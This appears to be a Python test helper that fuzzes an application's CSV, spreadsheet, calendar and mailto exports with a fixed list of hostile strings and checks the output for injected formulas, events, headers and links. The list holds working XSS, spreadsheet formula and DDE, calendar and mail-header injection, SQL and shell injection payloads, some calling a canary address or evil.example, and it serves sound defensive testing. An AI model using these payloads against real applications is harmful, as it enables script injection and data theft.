"""Hostile strings, and what must not become of them in a file: formulas, rows, columns, calendar entries, headers.

`strings` gives as many as asked, the same ones every time; `{canary}` in them is an address that counts requests.
"""

import csv
import io
import random
import re
import shutil
import subprocess
import unicodedata
import zipfile
from collections.abc import Iterable
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, unquote, urlsplit

import openpyxl
from icalendar import Calendar

SEEDS = (
    # Scripts and event handlers
    "<script>window.__pwned=1</script>", "<img src=x onerror=window.__pwned=1>",
    '<svg onload="window.__pwned=1">', '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    '"><script src={canary}/s.js></script>', "<body onpageshow=window.__pwned=1>",
    "<details open ontoggle=window.__pwned=1>x</details>", "<input autofocus onfocus=window.__pwned=1>",
    "<a href=javascript:window.__pwned=1>x</a>", "</textarea><script>window.__pwned=1</script>",
    "<scr<script>ipt>window.__pwned=1</scr</script>ipt>", "<math><mtext><img src=x onerror=window.__pwned=1>",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;", "\"onmouseover=\"window.__pwned=1", "${{window.__pwned=1}}",
    "<meta http-equiv=refresh content='0;url={canary}/r'>", "<base href={canary}/>",
    "<object data={canary}/o></object>", "<embed src={canary}/e>", "<style>body{{display:none}}</style>",
    "<link rel=stylesheet href={canary}/l.css>", "<form action={canary}/f><input name=password></form>",
    # Pictures, links and addresses
    "![x]({canary}/i.png)", "[Your session expired]({canary}/login)", "[x](javascript:window.__pwned=1)",
    "<{canary}/auto>", "{canary}/bare", "[x]: {canary}/ref", "![x][x]\n\n[x]: {canary}/ref.png",
    "[![x]({canary}/a.png)]({canary}/b)", "<img src={canary}/tag.png>", "javascript:window.__pwned=1",
    "data:text/html,<script>window.__pwned=1</script>", "vbscript:msgbox(1)", "file:///etc/passwd",
    "https://ec.europa.eu@127.0.0.1/", "https://еc.europa.eu/", "//evil.example/x",
    "mailto:x@y.eu?bcc=z@evil.example",
    "[x](data:text/html;base64,PHNjcmlwdD4=)", "![x](blob:{canary}/1)",
    # Markdown and Streamlit's own signs
    "# Big", "**bold** _thin_ ~~gone~~", "`code` ```\nfence", "| a | b |\n|---|---|", "- item\n- item",
    "> quote", "$5M$ and $$x^2$$", ":red[:material/warning: CLOSED]", ":material/delete:", "5*3*2", "1. one",
    "---", "Budget: $1,000,000 to $2,000,000", "\\[x\\](y)", ":streamlit:", "&nbsp;&#x41;", "[x][y] ^1^ ==m==",
    # Formulas
    "=1+1", '=HYPERLINK("{canary}/h","x")', "=WEBSERVICE(\"{canary}/w\")", "+1+1", "-1+1", "@SUM(1)",
    "=cmd|' /C calc'!A0",
    "{{=1+1}}", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\ufeff=1+1", "\u200b=1+1", "＝1+1", "＋1+1", "＠x", "%0A=1+1",
    "a\r=1+1", "a\n=1+1", "a;=1+1", 'a";=1+1;"', "a\",\"=1+1", "DDE(\"x\")", "|calc", "=IMPORTXML(\"{canary}\")",
    "external:c:\\x.xlsx", "internal:Sheet1!A1", "007", "1234567890123456789", "1-2", "'=1+1", "sep=;",
    # Line breaks, calendar lines, headers of mail
    "a\r\nb", "a\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:x", "a\r\nEND:VCALENDAR\r\nBEGIN:VCALENDAR", "a\rX-EVIL:1",
    "a\u2028BEGIN:VEVENT\u2029UID:1", "\\nBEGIN:VALARM", "x\r\nBcc: z@evil.example", "x%0D%0ABcc:z@evil.example",
    "x&cc=z@evil.example", "x?body=y&bcc=z@evil.example", "ATTACH:{canary}/cal", "a\x0bb\x0cc\x85d",
    # Signs that are not seen, or turn the reading
    "\u202eLIVE\u202c", "\u2066abc\u2069", "\u200bzero\u200cwidth\u200d", "a\x00b", "\x00", "\x1b[31mred", "\x08\x7f",
    "\ud800", "\udfff\ud800", "\ufdd0\uffff", "\U000e0041\U000e0042", "\u00ad\u034f", "é" * 3, "e\u0301", "ﬁﬀ",
    "Z̸̢̛̗͕a̴͙͗l̷̢̇g̸̱̅o̸͙͑", "👩‍👩‍👧‍👦", "ｆｕｌｌ", "\u3000", " ", "\t", "'", '"', ";", "\\", "%s%n", "{}", "{0.__class__}",
    # What programs stumble over
    "None", "nan", "null", "true", "__proto__", "constructor", "../../etc/passwd", "CON", "a/b\\c:d", "' OR 1=1 --",
    "'; DROP TABLE call; --", "%00", "%2e%2e%2f", "$(touch x)", "`touch x`", "!!python/object:os.system", "&a [*a]",
    "*a", "- !!binary x", "x: y: z", "? x", "<!--", "]]>", "<![CDATA[x]]>", "<?xml?>",
    "A" * 1000, "Ä€\U00010348" * 300,
)  # fmt: skip
_AROUND = (
    "{0}", " {0}", "Call {0}", "{0} end", '"{0}"', "({0})", "\n{0}\n", "**{0}**", "[{0}]", "<b>{0}</b>", "{0}{0}",
    "\u202e{0}", "\t{0}", "x\r\n{0}", "[{0}]({{canary}}/w)", "`{0}`", "&#60;{0}", "={0}", "\ufeff{0}", "| {0} |",
)  # fmt: skip

_STARTS = frozenset("=+-@|%\t\r\n")
_NUMBER = re.compile(r"-?\d+([.,]\d+)?(e[+-]?\d+)?", re.IGNORECASE)


def strings(count: int, canary: str) -> list[str]:
    """`count` different hostile strings: the seeds, then the seeds in other clothes."""
    found = [seed.replace("{{", "{").replace("}}", "}").replace("{canary}", canary) for seed in SEEDS]
    rest = [
        around.replace("{0}", seed).replace("{{canary}}", canary)
        for around in _AROUND[1:]
        for seed in found
        if len(seed) < 200
    ]
    random.Random(6).shuffle(rest)
    if count < len(found):
        return random.Random(6).sample(found, count)
    made = list(dict.fromkeys([*found, *rest]))
    assert len(made) >= count, f"there are only {len(made)} hostile strings"
    return made[:count]


def csv_faults(data: bytes, separator: str, rows: int) -> list[str]:
    """Rows too many or too few, ragged rows, and cells that a spreadsheet would calculate."""
    read = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=separator, strict=True))
    faults = [] if len(read) == rows + 1 else [f"{len(read) - 1} rows instead of {rows}"]
    faults += [f"a row of {len(row)} cells" for row in read if len(row) != len(read[0])]
    return faults + [f"formula {c[:40]!r}" for row in read for c in row if is_formula(c) or "\r" in c or "\x00" in c]


def is_formula(cell: str) -> bool:
    start = cell.lstrip("\u3000\ufeff\u200b\u00a0 ")[:1]
    return bool(start) and unicodedata.normalize("NFKC", start)[:1] in _STARTS and not _NUMBER.fullmatch(cell)


def xlsx_faults(data: bytes, rows: int) -> list[str]:
    """Formulas, rows too many or too few, links that lead elsewhere than to the Union."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    faults = [] if sheet.max_row == rows + 1 else [f"{sheet.max_row - 1} rows instead of {rows}"]
    cells = [cell for one in book.worksheets for row in one.iter_rows() for cell in row]
    faults += [f"formula {str(c.value)[:40]!r}" for c in cells if c.data_type == "f"]
    return faults + [
        f"link {c.hyperlink.target}"
        for c in cells
        if c.hyperlink and not re.match(r"https://([a-z0-9-]+\.)*europa\.eu/", str(c.hyperlink.target))
    ]


def ics_faults(data: bytes, events: int) -> list[str]:
    """Entries too many or too few, alarms that nobody set, properties that came out of a text."""
    calendar = Calendar.from_ical(data)
    found = list(calendar.walk("VEVENT"))
    faults = [] if len(found) == events else [f"{len(found)} events instead of {events}"]
    begun = re.findall("(?m)^BEGIN:V(?:EVENT|CALENDAR)", data.decode("utf-8"))
    if len(begun) != events + 1:
        faults.append("a line that begins an event or a calendar")
    known = {"UID", "SEQUENCE", "DTSTAMP", "SUMMARY", "DTSTART", "DTEND", "TRANSP", "URL", "DESCRIPTION"}
    faults += [f"property {name}" for event in found for name in event if name not in known]
    faults += [f"{len(e.subcomponents)} alarms" for e in found if len(e.subcomponents) != 2]
    return faults + [f"control sign in {line[:40]!r}" for line in data.decode().split("\r\n") if _bad(line)]


def mailto_faults(address: str) -> list[str]:
    """Headers beyond subject and text, recipients beyond those that were typed, line breaks in the subject."""
    parts = urlsplit(address)
    query = parse_qs(parts.query, keep_blank_values=True, strict_parsing=True)
    faults = [] if set(query) == {"subject", "body"} else [f"headers {sorted(query)}"]
    faults += [] if all(len(values) == 1 for values in query.values()) else ["a header twice"]
    faults += ["a line break in the subject"] if re.search(r"[\r\n]", query["subject"][0]) else []
    return faults + (["a recipient"] if unquote(parts.path) else [])


def office_faults(files: Iterable[Path], folder: Path, rows: int) -> list[str]:
    """The same files opened and written again by LibreOffice: formulas and rows as it sees them."""
    program = shutil.which("soffice")
    assert program is not None, "LibreOffice is not installed"
    out = folder / "office"
    base = [program, "--headless", "--norestore", f"-env:UserInstallation={(folder / 'profile').as_uri()}"]
    faults: list[str] = []
    for path in files:
        # Separator, quote, UTF-8, first line, German (1031) or English (1033), detect dates and numbers.
        mark, language = ("59", "1031") if path.stem.endswith("de") else ("44", "1033")
        read = [f"--infilter=CSV:{mark},34,76,1,,{language},false,true"] if path.suffix == ".csv" else []
        command = [*base, "--convert-to", "ods:calc8", *read, "--outdir", str(out), str(path)]
        subprocess.run(command, check=True, capture_output=True, timeout=180)
        content = zipfile.ZipFile(out / f"{path.stem}.ods").read("content.xml").decode("utf-8")
        first = content.partition("</table:table>")[0]
        count = sum(
            1
            for row in re.findall(r"<table:table-row.*?</table:table-row>", first, re.DOTALL)
            if "office:value-type" in row
        )
        faults += [f"{path.name}: {content.count('table:formula')} formulas"] if "table:formula" in content else []
        faults += [f"{path.name}: {count - 1} rows instead of {rows}"] if count != rows + 1 else []
    return faults


def _bad(line: str) -> bool:
    return any(unicodedata.category(sign) == "Cc" and sign != "\t" for sign in line)


def links_of(page: Any) -> list[str]:
    """Every address that an element of the page would load or open."""
    script = """() => {
      const found = [], walk = (root) => {
        for (const node of root.querySelectorAll('*')) {
          for (const name of ['href', 'src', 'action', 'data', 'srcdoc', 'formaction', 'xlink:href'])
            if (node.hasAttribute(name)) found.push(node.tagName + ' ' + node.getAttribute(name));
          for (const one of node.attributes) if (one.name.startsWith('on')) found.push('HANDLER ' + one.name);
          if (node.shadowRoot) walk(node.shadowRoot);
        }
      };
      walk(document); return found; }"""
    return list(page.evaluate(script))
